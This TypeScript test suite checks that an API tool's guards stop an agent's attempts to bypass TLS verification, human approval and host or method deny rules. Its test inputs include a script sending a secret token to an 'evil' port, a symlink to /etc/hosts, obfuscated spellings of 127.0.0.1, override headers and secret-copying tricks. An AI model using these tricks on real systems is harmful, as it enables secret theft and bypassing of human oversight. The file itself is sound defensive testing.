import { readFile, symlink } from 'node:fs/promises';
import { join } from 'node:path';

import { openGuard } from '@tandem/core';

import type { Lab, Outcome } from './lab.js';
import type { Attack } from './more.js';

const notApprovedCode = /^CONNECTION_NOT_APPROVED$/;
const deniedCode = /^GUARD_DENIED$/;
const insecureSettings = { tls: { verify: false } };
const noConnections = { ca: [], clientCertificates: [] };

/** Finds the code of the first refusal in a response, which may have any form. */
const findRefusalCode = (result: unknown): Outcome => {
  const text = JSON.stringify(result);
  return (
    /\b(CONNECTION_NOT_APPROVED|TLS_UNVERIFIED_REFUSED|GUARD_DENIED|SECRET_HOST_REFUSED|TLS_ERROR)\b/.exec(
      text,
    )?.[1] ?? text
  );
};

const getHttpsUrl = (lab: Lab): string => `https://127.0.0.1:${lab.home}/{{TOKEN}}`;

const createProxySetting = (lab: Lab) => ({
  mode: 'manual',
  protocol: 'http',
  hostname: '127.0.0.1',
  port: lab.evil,
  bypass: '<-loopback>',
});

const setConnections = async (lab: Lab, connections: object): Promise<void> => {
  await lab.call('folders_get', { id: '' });
  await lab.call('folders_update', { id: '', connections: { ...noConnections, ...connections } });
};

/** Imports a document and executes everything in it. */
const importAndExecute = async (lab: Lab, text: string): Promise<Outcome> => {
  const folder = `Import ${Math.random()}`;
  const answer = await lab.call('imports_apply', { text, folder });
  if ('failed' in answer) return String(answer.failed);
  return findRefusalCode(await lab.call('runs_execute', { folder }));
};

const postman = (lab: Lab, more: object): string =>
  JSON.stringify({
    info: {
      name: `P${Math.random()}`,
      schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json',
    },
    item: [{ name: 'One', request: { method: 'GET', url: getHttpsUrl(lab) }, ...more }],
  });

const insomnia = (lab: Lab): string =>
  JSON.stringify({
    _type: 'export',
    __export_format: 4,
    resources: [
      { _id: 'wrk_1', _type: 'workspace', name: `I${Math.random()}` },
      {
        ...{ _id: 'req_1', _type: 'request', parentId: 'wrk_1', name: 'One', method: 'GET' },
        url: getHttpsUrl(lab),
        settingValidateCertificates: false,
      },
    ],
  });

/** Creates an environment that denies a host or a method. */
const createDenyingEnvironment = async (
  lab: Lab,
  hosts: readonly string[],
  methods: readonly string[] = [],
) => {
  const name = `Closed ${Math.random()}`;
  const { environments } = lab.application;
  const { id } = await lab.person(environments.create({ name, secrets: { KEY: `key-of-${Math.random()}` } }));
  const agents = { rules: [{ methods, hosts, then: 'deny' as const }], otherwise: 'allow' as const };
  await lab.person(environments.guard({ id, guard: { ...openGuard, agents } }));
  return name;
};

/** Spellings of 127.0.0.1, and names that resolve to it. */
const spellings = [
  ['decimal', '2130706433'],
  ['octal', '0177.0.0.1'],
  ['hexadecimal', '0x7f.1'],
  ['upper case and a dot at its end', 'LOCALHOST.'],
  ['a name below localhost', 'X.LocalHost'],
  ['IPv4 in IPv6', '[::ffff:127.0.0.1]'],
  ['IPv4 in IPv6 of a translator', '[64:ff9b::127.0.0.1]'],
  ['full-width digits', '１２７.０.０.１'],
  ['an ideographic full stop', '127。0。0。1'],
  ['percent escapes', '%31%32%37.0.0.1'],
] as const;

const overridingRequests: readonly (readonly [string, object])[] = [
  ['X-Original-Method', { headers: { 'X-Original-Method': 'DELETE' } }],
  ['X_Rewrite_Method', { headers: { X_Rewrite_Method: 'DELETE' } }],
  ['a parameter named method', { queryParams: [{ name: 'method', value: 'delete', enabled: true }] }],
  [
    'a field named method',
    {
      body: { type: 'form-urlencoded', fields: [{ name: 'method', value: 'delete', enabled: true }] },
    },
  ],
];

const relocatingHeaders = ['X-Original-URL', 'X_Rewrite_URL', 'Destination'] as const;

/** Sends the copy of a secret with an environment without guards. The environment of the secret has guards. */
const sendSecretCopy = async (lab: Lab, first: object, copy: string): Promise<Outcome> => {
  const environment = await createDenyingEnvironment(lab, [], ['DELETE']);
  const free = `Free ${environment}`;
  await lab.call('environments_create', { name: free });
  const url = `http://127.0.0.1:${lab.home}/`;
  await lab.execute({ url, ...first }, { environment });
  const headers = [{ name: 'x-key', value: copy, enabled: true }];
  return lab.send({ url, method: 'DELETE', headers }, { environment: free });
};

/** Attacks that use settings from documents, calls, scripts and files. */
export const settingAttacks: readonly Attack[] = [
  [
    'imported settings',
    'curl -k',
    notApprovedCode,
    (lab) => importAndExecute(lab, `curl -k '${getHttpsUrl(lab)}'`),
  ],
  [
    'imported settings',
    'strictSSL of Postman',
    notApprovedCode,
    (lab) => importAndExecute(lab, postman(lab, { protocolProfileBehavior: { strictSSL: false } })),
  ],
  [
    'imported settings',
    'certificates of Insomnia',
    notApprovedCode,
    (lab) => importAndExecute(lab, insomnia(lab)),
  ],
  // The import lists the proxy and its files as left out. The request then fails, because `home` does not speak TLS.
  [
    'imported settings',
    'a proxy, a CA and a certificate of curl',
    /^TLS_ERROR$/,
    (lab) =>
      importAndExecute(
        lab,
        `curl --proxy http://127.0.0.1:${lab.evil} --cacert ca.pem --cert c.pem --key k.pem '${getHttpsUrl(lab)}'`,
      ),
  ],
  [
    'settings in another call',
    'many executions',
    notApprovedCode,
    async (lab) => {
      const { id } = await lab.call('rest_create', {
        ...{ name: `Many ${Math.random()}`, url: getHttpsUrl(lab), settings: insecureSettings },
      });
      return findRefusalCode(await lab.call('rest_execute_many', { ids: [id] }));
    },
  ],
  [
    'settings in another call',
    'a run with rows that name the host',
    notApprovedCode,
    async (lab) => {
      const { id } = await lab.call('rest_create', {
        ...{ name: `Rows ${Math.random()}`, url: 'https://{{h}}/{{TOKEN}}', settings: insecureSettings },
      });
      return findRefusalCode(
        await lab.call('runs_execute', { ids: [id], rows: [{ h: `127.0.0.1:${lab.home}` }] }),
      );
    },
  ],
  [
    'settings in another call',
    'a change after a person agreed',
    notApprovedCode,
    async (lab) => {
      const { id } = await lab.call('rest_create', {
        ...{
          name: `Later ${Math.random()}`,
          url: `https://127.0.0.2:${lab.evil}/`,
          settings: insecureSettings,
        },
      });
      await lab.call('rest_execute', { id });
      await lab.approveAll();
      await lab.call('rest_update', { id, url: `https://127.0.0.1:${lab.evil}/` });
      return lab.outcomeOf(await lab.call('rest_execute', { id }));
    },
  ],
  [
    'settings in another call',
    'a copy of what a person agreed to',
    notApprovedCode,
    async (lab) => {
      const fields = { url: `https://127.0.0.1:${lab.evil}/`, settings: insecureSettings };
      const name = `Agreed ${Math.random()}`;
      const { id } = await lab.person(lab.application.rest.create({ name, ...fields }));
      const copy = await lab.call('rest_create', { name: `${name} copy`, ...fields });
      await lab.call('rest_delete', { id });
      return lab.outcomeOf(await lab.call('rest_execute', { id: copy.id }));
    },
  ],
  [
    'settings in another call',
    'a token through a proxy',
    notApprovedCode,
    async (lab) => {
      await setConnections(lab, { proxy: { ...createProxySetting(lab), hostname: '127.0.0.3' } });
      return lab.send({
        url: `http://127.0.0.1:${lab.home}/`,
        auth: {
          ...{ type: 'oauth2', grant: 'client_credentials', clientId: 'c', clientSecret: '{{TOKEN}}' },
          accessTokenUrl: `http://127.0.0.1:${lab.home}/token`,
        },
      });
    },
  ],
  [
    'settings in another call',
    'a token without verification',
    notApprovedCode,
    (lab) =>
      lab.send({
        url: `http://127.0.0.1:${lab.home}/`,
        settings: insecureSettings,
        auth: {
          ...{ type: 'oauth2', grant: 'client_credentials', clientId: 'c', clientSecret: '{{TOKEN}}' },
          accessTokenUrl: `https://127.0.0.1:${lab.home}/token`,
        },
      }),
  ],
  [
    'settings in another call',
    'a request of a script without verification',
    /^The secret TOKEN may only be sent to 127\.0\.0\.1/,
    async (lab) => {
      const { logs } = await lab.execute({
        url: `http://127.0.0.1:${lab.home}/`,
        foreign: {
          dialect: 'bruno',
          beforeRequest: `const axios = require('axios'); try { await axios.get('https://127.0.0.1:${lab.evil}/' + bru.getEnvVar('TOKEN'), { rejectUnauthorized: false, proxy: { host: '127.0.0.1', port: ${lab.evil} }, httpsAgent: { rejectUnauthorized: false } }); } catch (e) { console.log(e.message); }`,
        },
      });
      return (logs as readonly { readonly message: string }[]).map(({ message }) => message).join();
    },
  ],
  [
    'files of a link',
    'a CA file that is a link out of the folder',
    /^FILE_REFUSED$/,
    async (lab) => {
      const name = `link-${Math.random()}.pem`;
      await symlink('/etc/hosts', join(lab.folder, name));
      await setConnections(lab, { ca: [name] });
      return lab.send({ url: getHttpsUrl(lab) });
    },
  ],
  ...spellings.map(([way, host]): Attack => [
    'spellings',
    way,
    deniedCode,
    async (lab) =>
      lab.send(
        { url: `http://${host}:${lab.evil}/` },
        { environment: await createDenyingEnvironment(lab, [`127.0.0.1:${lab.evil}`]) },
      ),
  ]),
  [
    'spellings',
    'a redirect',
    deniedCode,
    async (lab) =>
      lab.send(
        {
          url: `http://127.0.0.1:${lab.home}/away?status=302&to=${encodeURIComponent(`http://2130706433:${lab.evil}/`)}`,
        },
        { environment: await createDenyingEnvironment(lab, [`localhost:${lab.evil}`]) },
      ),
  ],
  ...overridingRequests.map(([way, fields]): Attack => [
    'overrides',
    way,
    deniedCode,
    async (lab) =>
      lab.send(
        { url: `http://127.0.0.1:${lab.home}/`, method: 'POST', ...fields },
        { environment: await createDenyingEnvironment(lab, [], ['DELETE']) },
      ),
  ]),
  ...relocatingHeaders.map((name): Attack => [
    'overrides',
    name,
    deniedCode,
    async (lab) =>
      lab.send(
        { url: `http://127.0.0.1:${lab.home}/`, headers: { [name]: 'http://admin.example.test/all' } },
        { environment: await createDenyingEnvironment(lab, ['admin.example.test']) },
      ),
  ]),
  [
    'copies',
    'pm.collectionVariables',
    deniedCode,
    (lab) =>
      sendSecretCopy(
        lab,
        {
          foreign: {
            dialect: 'postman',
            beforeRequest: "pm.collectionVariables.set('COPY', pm.environment.get('KEY'));",
          },
        },
        '{{COPY}}',
      ),
  ],
  [
    'copies',
    'a cookie that the server sets',
    deniedCode,
    async (lab) => {
      const environment = await createDenyingEnvironment(lab, [], ['DELETE']);
      const free = `Free ${environment}`;
      await lab.call('environments_create', { name: free });
      await lab.execute({ url: `http://127.0.0.1:${lab.home}/cookie?value={{KEY}}` }, { environment });
      const url = `http://127.0.0.1:${lab.home}/`;
      const script = `export const onRequest = (req) => { const value = cookies.get(req.url, 'sid'); if (value) req.headers.set('x-key', value.value ?? value); };`;
      const found = await lab.send({ url, method: 'DELETE', script }, { environment });
      await lab.call('cookies_clear', {});
      return found;
    },
  ],
  [
    'copies',
    'a response that is saved and sent',
    // A response saved for an agent contains placeholders instead of secrets, so the guard need not deny it.
    /^200$/,
    async (lab) => {
      const environment = await createDenyingEnvironment(lab, [], ['DELETE']);
      await lab.call('environments_create', { name: `Free ${environment}` });
      const file = `files/copy-${Math.random()}.json`;
      const url = `http://127.0.0.1:${lab.home}/`;
      const headers = [{ name: 'x-key', value: '{{KEY}}', enabled: true }];
      await lab.execute({ url, headers }, { environment, saveTo: file });
      const saved = await readFile(join(lab.folder, file), 'utf8');
      if (saved.includes('key-of-')) return saved;
      const body = { type: 'binary', file };
      return lab.send({ url, method: 'DELETE', body }, { environment: `Free ${environment}` });
    },
  ],
];
